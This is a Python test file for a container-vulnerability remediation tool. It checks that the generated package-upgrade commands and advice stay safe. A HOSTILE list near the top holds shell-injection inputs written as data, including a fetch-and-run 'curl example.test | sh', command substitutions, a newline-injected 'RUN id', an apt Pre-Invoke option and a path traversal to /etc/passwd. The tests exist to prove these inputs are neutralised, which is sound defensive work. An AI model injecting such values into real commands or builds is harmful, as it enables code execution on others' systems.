from __future__ import annotations

import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from pratique.model.base_image import BaseFoundBy, BaseImage
from pratique.model.image_tools import ImageTools
from pratique.ports.findings import StoredPackage
from pratique.remediation.cause import cause_of, place_of_package
from pratique.remediation.language_commands import LANGUAGE_COMMANDS
from pratique.remediation.remedy import NOTHING_ELSE, Remedy, Surroundings, remedy_of
from pratique.remediation.system_commands import SYSTEM_COMMANDS
from tests.unit.remediation.rules import BASE, RULES, Rule, package

HOSTILE = [
    "a; curl example.test | sh #",
    "$(id)",
    "`id`",
    "a\nRUN id",
    "a' && id && '",
    "--allow-unauthenticated",
    "-o=Dpkg::Pre-Invoke::=id",
    "a\\",
    "!!",
    "../../etc/passwd",
    "a\x1b[31m",
    "<<EOF",
]
# Every character that the shell acts on, unless a single-quoted word holds it.
SHELL_WORDS = {";", "|", "&", "&&", "||", ">", "<", "<<", "(", ")"}


def remedy(*packages: StoredPackage, tools: ImageTools | None = None, base: BaseImage | None = None) -> Remedy:
    around = Surroundings(base or Surroundings().base, tools)
    return remedy_of(packages, around, vulnerability="CVE-2026-1")


@pytest.mark.parametrize("rule", RULES, ids=[f"{rule.tool}: {rule.where}" for rule in RULES])
def test_rule_says_exactly_what_to_type_or_to_do(rule: Rule) -> None:
    found = remedy(rule.package, tools=rule.tools)
    assert found.command == rule.command
    assert found.instead == (rule.instead or NOTHING_ELSE)
    assert found.dockerfile == "This instruction brought it, and is the one to change: RUN make"
    assert found.caution
    assert found.prevention
    assert found.references == ("https://nvd.nist.gov/vuln/detail/CVE-2026-1", "https://osv.dev/vulnerability/ADV-1")


def test_every_command_has_a_rule() -> None:
    assert {*SYSTEM_COMMANDS, *LANGUAGE_COMMANDS} <= {rule.tool for rule in RULES}


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("field", ["name", "version", "fixed_version", "path"])
def test_hostile_words_never_run_whatever_an_image_holds(field: str, hostile: str) -> None:
    for rule in RULES:
        assert_survives(rule, field, hostile)


def assert_survives(rule: Rule, field: str, hostile: str) -> None:
    value = f"{hostile}/{rule.package.path}" if field == "path" else hostile
    changed = replace(rule.package, **{field: value})
    found = remedy(changed, tools=rule.tools)
    assert_safe(found.command, expected=rule.command)
    assert "\x1b" not in f"{found}{cause_of(changed)}{place_of_package(changed)}"
    assert "\n" not in f"{found.command}{found.instead}{found.dockerfile}"


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(RULES), st.text(min_size=1, max_size=20), st.text(max_size=20), st.text(max_size=20))
def test_any_name_version_and_path_is_safe_or_left_out(rule: Rule, name: str, fixed: str, folder: str) -> None:
    changed = replace(rule.package, name=name, fixed_version=fixed, path=f"{folder}/{rule.package.path}")
    found = remedy(changed, tools=rule.tools)
    assert_safe(found.command, expected=rule.command)
    assert found.instead


def assert_safe(command: str, *, expected: str) -> None:
    """The command is empty, or differs from the expected one in single words that hold nothing a shell acts on."""
    if not command:
        return
    assert command.isprintable()
    words = list(shlex.shlex(command, posix=True, punctuation_chars=True))
    wanted = list(shlex.shlex(expected, posix=True, punctuation_chars=True))
    acting = [word for word in words if word in SHELL_WORDS]
    assert acting in ([word for word in wanted if word in SHELL_WORDS], ["&&"] * len(acting))
    assert not [word for word in words if "`" in word or "$" in word or "\\" in word]
    options = {word for word in words if word.startswith("-")}
    assert {option.partition("=")[0] for option in options} <= {
        *(word.partition("=")[0] for word in wanted if word.startswith("-")),
        "--only-upgrade",
        "--target",
        "--no-deps",
        "--upgrade",
        "--prefix",
        "--global",
    }


def test_packages_of_one_manager_are_mended_by_one_command() -> None:
    debs = [package("deb", name, "1-1", "2-1", ecosystem="Debian:12") for name in ("libcurl4", "curl", "curl")]
    wheel = package("pypi", "Django", "3.2", "3.2.25", path="usr/lib/python3.11/site-packages/a/METADATA")
    assert remedy(wheel, *debs).command == (
        "apt-get update && apt-get satisfy -y 'libcurl4 (>= 2-1)' 'curl (>= 2-1)' && "
        "python3.11 -m pip install Django==3.2.25"
    )


@pytest.mark.parametrize(
    ("state", "note", "sentence"),
    [
        ("not_fixed", "postponed", "Debian knows of no fixed version yet and marks it postponed"),
        ("will_not_fix", "", "Debian will not fix it in this release"),
        ("unknown", "", "Debian names no fixed version"),
        ("fixed", "", "Debian says that it is fixed and not in which version"),
    ],
)
def test_package_without_a_fix_says_so_and_who_says_it(state: str, note: str, sentence: str) -> None:
    affected = package("deb", "zlib1g", "1", "", ecosystem="Debian:12", state=state, note=note)
    found = remedy(affected)
    assert found.command == ""
    assert found.instead == f"For zlib1g: {sentence}; remove it where it is not needed, or limit who can reach it."
    assert "look what does" in found.caution
    assert cause_of(affected) == f"zlib1g 1 is affected: every version is affected (ADV-1), and {sentence}."


def test_finding_that_is_fixed_in_part_has_a_command_and_says_the_rest() -> None:
    found = remedy(package("deb", "curl", "1", "2"), package("deb", "zlib1g", "1", ""))
    assert "'curl (>= 2)'" in found.command
    assert "zlib1g" in found.instead
    assert "curl" not in found.instead


def test_base_package_points_at_the_base_image() -> None:
    base = BaseImage(1, BaseFoundBy.ANNOTATION, "debian:12")
    affected = package("deb", "curl", "1", "2", ecosystem="Debian:12", layer=BASE)
    found = remedy(affected, base=base)
    assert found.instead == "It came with the base image: a newer build of debian:12 mends it as well."
    assert found.dockerfile.startswith("The base image brought it: change the FROM line")
    assert "base image that is rebuilt" in found.prevention
    without = remedy(affected, base=base, tools=ImageTools(has_shell=False, managers=()))
    assert without.instead.startswith("Rebuild on a newer build of debian:12 that holds curl 2 or later")
    assert place_of_package(affected) == "/app/place in layer 0 (the base image's, made by ADD rootfs /)"


def test_image_without_a_shell_builds_its_packages_elsewhere() -> None:
    wheel = package("pypi", "Django", "3.2", "3.2.25", path="usr/lib/python3.11/site-packages/a/METADATA")
    assert "in the build stage" in remedy(wheel, tools=ImageTools(has_shell=False, managers=())).instead


@pytest.mark.parametrize(
    ("kind", "old", "new", "words"),
    [
        ("npm", "1.9.0", "2.0.1", "another major version"),
        ("npm", "0.18.0", "0.21.1", "another major version"),
        ("pypi", "0.18.0", "0.21.1", "Run the application's tests"),
        ("deb", "1:1.2-1", "1:1.2-2", "Processes keep the old library until they restart"),
        ("deb", "1:1.2-1", "1:1.3-1", "binary interface (ABI)"),
        ("golang", "v1.0.0", "v1.0.1", "compiled in"),
        ("maven", "1.0.0", "1.0.1", "class path"),
    ],
)
def test_caution_tells_what_can_break(kind: str, old: str, new: str, words: str) -> None:
    found = remedy(package(kind, "g:a" if kind == "maven" else "zlib", old, new))
    assert words in found.caution
    assert ("another major" in found.caution) == ("another major" in words)


def test_fix_that_only_subscribers_get_says_so() -> None:
    held = package("deb", "libc6", "2.27-3ubuntu1.6", "2.27-3ubuntu1.6+esm1", ecosystem="Ubuntu:18.04:LTS")
    assert "Ubuntu Pro" in remedy(held).caution
    assert "Ubuntu Pro" not in remedy(replace(held, fixed_version="2.27-3ubuntu1.7")).caution


def test_cause_is_made_from_the_evidence() -> None:
    affected = package("deb", "libssl3", "3.0.11-1", "3.0.15-1", ecosystem="Debian:12")
    assert cause_of(replace(affected, source_name="openssl", advisory="DSA-5764-1")) == (
        "libssl3 3.0.11-1 is below 3.0.15-1, in which Debian fixed openssl (DSA-5764-1)."
    )
    wheel = package("pypi", "Django", "3.2", "3.2.25", ecosystem="PyPI")
    assert cause_of(replace(wheel, advisory="GHSA-1-2-3")) == (
        "Django 3.2 is below 3.2.25, in which it is fixed, says GitHub (GHSA-1-2-3)."
    )
